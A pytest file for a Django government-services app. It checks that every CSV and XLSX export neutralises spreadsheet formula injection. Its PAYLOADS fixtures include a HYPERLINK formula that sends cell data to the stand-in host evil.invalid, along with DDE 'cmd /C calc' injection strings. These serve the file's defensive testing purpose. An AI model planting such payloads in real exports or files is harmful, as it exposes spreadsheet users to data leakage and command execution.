"""Exports cannot carry formulas (issue 23, item 2): text a citizen or an officer typed that begins with
=, +, -, @ (or a tab, or after spaces, or in full width) opens in a spreadsheet as text.

Each export view is fetched in each of its formats; the XLSX is loaded with openpyxl (the cell must be a
string cell with the quote prefix and its text unchanged), the CSV is parsed (the cell starts with a
single quote).
"""

import csv
import io
import uuid

import pytest
from django.urls import reverse

from tests.conftest import create_department, create_user
from zhunru.exports import csv_cell, is_formula_like

PAYLOADS = {
    "lead": '=HYPERLINK("http://evil.invalid/?"&A1,"点击")',
    "complaint": "+cmd|' /C calc'!A0",
    "case": "-2+3+cmd|' /C calc'!A0",
    "credit": "@SUM(1+1)*cmd|' /C calc'!A0",
    "item": " =1+1",  # after a leading space
    "service": "＝1+1",  # full-width equals sign
    "audit": "=1+1 审计备注",
}


@pytest.mark.parametrize(
    ("text", "dangerous"),
    [("=1+1", True), ("+1", True), ("-1", True), ("@A1", True), ("\t=1", True), ("\r=1", True),
     ("  =1", True), ("\u3000=1", True), ("＝1", True), ("＋1", True), ("－1", True), ("＠A1", True),
     ("正常文本", False), ("a=1", False), ("", False), ("   ", False), (5, False), (None, False)],
)
def test_formula_rule(text, dangerous):
    assert is_formula_like(text) is dangerous
    assert csv_cell(text) == (("'" + text) if dangerous else text)


@pytest.fixture
def world(jurisdiction):
    from zhunru.audit.recording import record
    from zhunru.cases.models import Case, Category
    from zhunru.catalog.models import ListEdition, ListItem, ServiceItem
    from zhunru.catalog.ratings import submit_rating
    from zhunru.credit.models import CreditPlatform, MarketSubject, OutboundRecord
    from zhunru.leads.models import Lead
    from zhunru.portal.models import Complaint

    dept = create_department(jurisdiction, "甲局")
    boss = create_user("boss", superuser=True)
    lead = Lead.objects.create_lead(jurisdiction=jurisdiction, source=Lead.Source.COMPLAINT, title=PAYLOADS["lead"])
    lead.transfer(to=dept, by=boss)
    complaint = Complaint.objects.create(
        jurisdiction=jurisdiction, submission_token=uuid.uuid4(), description="某招标文件要求本地注册",
        organization=PAYLOADS["complaint"], document_or_practice="招标公告", contact_name="张三",
        contact_phone="13800000000", consent=True,
    )
    Lead.objects.create_from_complaint(complaint, by=boss)  # the organisation becomes the lead's subject
    case = Case.objects.create(
        title=PAYLOADS["case"], jurisdiction=jurisdiction, reporting_department=dept, organization="某单位",
        region="测试区", category=Category.DISCRIMINATORY, subcategory="non_local", summary="摘要",
    )
    case.register(by=boss)
    case.start_review(by=boss)
    case.archive(by=boss)
    subject = MarketSubject.objects.create(name="某某有限公司", uscc="91330100716105852E", jurisdiction=jurisdiction)
    platform = CreditPlatform.objects.create(name="测试平台", code="test-platform", jurisdiction=jurisdiction,
                                             endpoint_url="https://platform.invalid/", hmac_key_ref="TEST")
    OutboundRecord.objects.create(
        platform=platform, kind=OutboundRecord.Kind.PENALTY, jurisdiction=jurisdiction, subject=subject,
        status=OutboundRecord.Status.REJECTED,
        payload={"subject_name": "某某有限公司", "uscc": subject.uscc, "document_number": "罚〔2025〕1号",
                 "penalty_category": "罚款", "penalty_content": PAYLOADS["credit"], "decided_on": "2025-01-01",
                 "authority_name": "甲局", "source_unit": "甲局"},
    )
    old, new = ListEdition.objects.create(name="2024年版"), ListEdition.objects.create(name="2025年版")
    ListItem.objects.create(edition=old, number=1, kind="permitted", name="旧事项", code="100001")
    ListItem.objects.create(edition=new, number=1, kind="permitted", name=PAYLOADS["item"], code="100001")
    service = ServiceItem.objects.create(department=dept, name=PAYLOADS["service"], published=True)
    submit_rating(service, 1, "portal")
    record("lead.note", obj=lead, actor=boss, note=PAYLOADS["audit"])  # a note as typed by an officer
    return {"boss": boss, "old": old, "new": new, "lead": lead}


def _exports(world):
    diff = reverse("zhunru_catalog_edition_diff", args=[world["new"].pk])
    against = f"against={world['old'].pk}"
    return [
        (reverse("zhunru_lead_export"), "xlsx", [PAYLOADS["lead"], PAYLOADS["complaint"]]),
        (reverse("case_catalogue:index") + "?export=xlsx", "xlsx", [PAYLOADS["case"]]),
        (reverse("zhunru_credit_export", args=["csv"]) + "?kind=penalty", "csv", [PAYLOADS["credit"]]),
        (reverse("zhunru_credit_export", args=["xlsx"]), "xlsx", [PAYLOADS["credit"]]),
        (f"{diff}?{against}&format=csv", "csv", [PAYLOADS["item"]]),
        (f"{diff}?{against}&format=xlsx", "xlsx", [PAYLOADS["item"]]),
        (reverse("zhunru_catalog_rating_statistics") + "?format=csv", "csv", [PAYLOADS["service"]]),
        (reverse("zhunru_catalog_rating_statistics") + "?format=xlsx", "xlsx", [PAYLOADS["service"]]),
        (reverse("audit_events:index") + "?export=csv", "csv", [PAYLOADS["audit"]]),
        (reverse("audit_events:index") + "?export=xlsx", "xlsx", [PAYLOADS["audit"]]),
    ]


def _body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def _xlsx_cells(body: bytes) -> list:
    from openpyxl import load_workbook

    workbook = load_workbook(io.BytesIO(body))
    return [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]


def _csv_cells(body: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(body.decode("utf-8-sig"))) for cell in row]


def test_every_export_writes_formula_like_text_as_text(client, world):
    client.force_login(world["boss"])
    for url, fmt, payloads in _exports(world):
        response = client.get(url)
        assert response.status_code == 200, url
        body = _body(response)
        if fmt == "xlsx":
            cells = _xlsx_cells(body)
            assert not [c.coordinate for c in cells if c.data_type == "f"], url
            for payload in payloads:
                found = [c for c in cells if c.value == payload]
                assert found, (url, payload)
                assert all(c.data_type == "s" and c.quotePrefix for c in found), (url, payload)
        else:
            cells = _csv_cells(body)
            for payload in payloads:
                assert "'" + payload in cells, (url, payload)
                assert payload not in cells, (url, payload)
            assert not [c for c in cells if is_formula_like(c)], url


def test_plain_values_are_unchanged(client, world):
    """Only formula-like text is touched: numbers, dates and ordinary text export as before."""
    client.force_login(world["boss"])
    cells = _xlsx_cells(client.get(reverse("zhunru_lead_export")).content)
    number = world["lead"].number
    plain = [c for c in cells if c.value == number]
    assert plain and not plain[0].quotePrefix
    assert any(c.data_type == "n" and c.value == 1 for c in cells)  # 序号
